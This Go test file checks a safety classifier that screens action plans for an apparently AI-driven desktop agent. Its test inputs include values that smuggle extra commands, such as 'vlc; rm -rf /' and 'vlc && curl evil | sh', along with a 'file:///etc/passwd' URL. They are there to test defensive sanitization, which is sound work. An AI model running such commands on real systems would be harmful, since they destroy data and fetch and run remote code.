package safety

import (
	"path/filepath"
	"reflect"
	"testing"

	"github.com/rahul/max/internal/plan"
)

func newClassifier(t *testing.T, protected ...string) *Classifier {
	t.Helper()
	return NewClassifier(plan.DefaultCatalog(), NewPathGuard(protected), 3600)
}

func TestClassify_DangerousSet(t *testing.T) {
	c := newClassifier(t)
	p := &plan.Plan{TaskType: plan.TaskMultiStep, Actions: []plan.Action{
		{Type: "open_app", Parameters: plan.Params{"name": "calculator"}},
		{Type: "install_software", Parameters: plan.Params{"package_id": "vlc"}},
		{Type: "wait", Parameters: plan.Params{"seconds": float64(1)}},
	}}

	highest, err := c.ClassifyAndSanitize(p)
	if err != nil {
		t.Fatalf("Unexpected block: %v", err)
	}
	if highest != plan.RiskDangerous {
		t.Errorf("One dangerous action must make the plan dangerous, got %s", highest)
	}
	if p.Actions[0].Risk != plan.RiskSafe || p.Actions[1].Risk != plan.RiskDangerous {
		t.Errorf("Per-action labels wrong: %s / %s", p.Actions[0].Risk, p.Actions[1].Risk)
	}
}

func TestClassify_ProtectedDeleteBlocked(t *testing.T) {
	protected := t.TempDir()
	c := newClassifier(t, protected)

	p := &plan.Plan{TaskType: plan.TaskMultiStep, Actions: []plan.Action{
		{Type: "open_app", Parameters: plan.Params{"name": "files"}},
		{Type: "file_delete", Parameters: plan.Params{"path": filepath.Join(protected, "x.txt")}},
	}}

	highest, err := c.ClassifyAndSanitize(p)
	if err == nil {
		t.Fatal("Expected whole-plan BlockedError")
	}
	be, ok := err.(*BlockedError)
	if !ok {
		t.Fatalf("Expected *BlockedError, got %T", err)
	}
	if be.Index != 1 || be.ActionType != "file_delete" {
		t.Errorf("BlockedError points at wrong action: %+v", be)
	}
	if highest != plan.RiskBlocked {
		t.Errorf("Highest label must be blocked, got %s", highest)
	}
}

func TestClassify_RootDeleteBlocked(t *testing.T) {
	c := newClassifier(t)
	for _, path := range []string{"/", "C:\\", "c:"} {
		p := plan.Single("file_delete", plan.Params{"path": path})
		if _, err := c.ClassifyAndSanitize(p); err == nil {
			t.Errorf("Deleting %q must be blocked", path)
		}
	}
}

func TestSanitize_InstallMetacharacters(t *testing.T) {
	c := newClassifier(t)
	p := plan.Single("install_software", plan.Params{
		"package_id": "vlc; rm -rf /",
		"name":       "vlc && curl evil | sh",
	})

	if _, err := c.ClassifyAndSanitize(p); err != nil {
		t.Fatalf("Install must sanitize, not block: %v", err)
	}
	pkg := p.Actions[0].Parameters["package_id"].(string)
	name := p.Actions[0].Parameters["name"].(string)
	for _, bad := range []string{";", "|", "&", "`", "<", ">", "$", "\n"} {
		if containsAny(pkg, bad) || containsAny(name, bad) {
			t.Errorf("Metacharacter %q survived sanitization: %q / %q", bad, pkg, name)
		}
	}

	// A clean package id passes through unmodified.
	p2 := plan.Single("install_software", plan.Params{"package_id": "gimp-2.10"})
	c.ClassifyAndSanitize(p2)
	if p2.Actions[0].Parameters["package_id"] != "gimp-2.10" {
		t.Errorf("Clean package id was rewritten: %v", p2.Actions[0].Parameters["package_id"])
	}
}

func containsAny(s, chars string) bool {
	for _, c := range chars {
		for _, r := range s {
			if r == c {
				return true
			}
		}
	}
	return false
}

func TestSanitize_PowerDelayClamped(t *testing.T) {
	c := newClassifier(t)
	p := plan.Single("system_shutdown", plan.Params{"delay": float64(90000)})

	if _, err := c.ClassifyAndSanitize(p); err != nil {
		t.Fatalf("Shutdown must clamp, not block: %v", err)
	}
	if d := p.Actions[0].Parameters["delay"].(float64); d != 3600 {
		t.Errorf("Expected delay clamped to 3600, got %v", d)
	}
}

func TestSanitize_ConnectivityEnum(t *testing.T) {
	c := newClassifier(t)

	for _, ok := range []string{"on", "off", "toggle", "ON"} {
		p := plan.Single("system_wifi", plan.Params{"action": ok})
		if _, err := c.ClassifyAndSanitize(p); err != nil {
			t.Errorf("wifi action %q must pass: %v", ok, err)
		}
	}

	p := plan.Single("system_wifi", plan.Params{"action": "off; rm -rf /"})
	if _, err := c.ClassifyAndSanitize(p); err == nil {
		t.Error("Unrecognized toggle action must be blocked")
	}
}

func TestSanitize_NavigateURLScreening(t *testing.T) {
	c := newClassifier(t)
	for _, url := range []string{"javascript:alert(1)", "data:text/html,x", "file:///etc/passwd", "ftp://host/x"} {
		p := plan.Single("navigate", plan.Params{"url": url})
		if _, err := c.ClassifyAndSanitize(p); err == nil {
			t.Errorf("URL %q must be blocked", url)
		}
	}
	p := plan.Single("navigate", plan.Params{"url": "https://example.com"})
	if _, err := c.ClassifyAndSanitize(p); err != nil {
		t.Errorf("https URL must pass: %v", err)
	}
}

func TestSanitize_DangerousKeyCombo(t *testing.T) {
	c := newClassifier(t)
	p := plan.Single("press_key", plan.Params{"key": "Alt+F4"})
	highest, err := c.ClassifyAndSanitize(p)
	if err != nil {
		t.Fatalf("Key combos are dangerous, not blocked: %v", err)
	}
	if highest != plan.RiskDangerous {
		t.Errorf("alt+f4 must be dangerous, got %s", highest)
	}
}

func TestSanitize_Idempotent(t *testing.T) {
	c := newClassifier(t)
	p := &plan.Plan{TaskType: plan.TaskMultiStep, Actions: []plan.Action{
		{Type: "install_software", Parameters: plan.Params{"package_id": "vlc; rm", "name": "v|c"}},
		{Type: "system_restart", Parameters: plan.Params{"delay": float64(99999)}},
		{Type: "system_bluetooth", Parameters: plan.Params{"action": "TOGGLE"}},
		{Type: "file_delete", Parameters: plan.Params{"path": filepath.Join(t.TempDir(), "a", "..", "x.txt")}},
	}}

	if _, err := c.ClassifyAndSanitize(p); err != nil {
		t.Fatalf("First pass failed: %v", err)
	}
	snapshot := p.ToJSON()

	if _, err := c.ClassifyAndSanitize(p); err != nil {
		t.Fatalf("Second pass failed: %v", err)
	}
	if p.ToJSON() != snapshot {
		t.Errorf("Sanitization not idempotent:\nfirst:  %s\nsecond: %s", snapshot, p.ToJSON())
	}
	if !reflect.DeepEqual(p.HighestRisk(), plan.RiskDangerous) {
		t.Errorf("Expected dangerous plan, got %s", p.HighestRisk())
	}
}
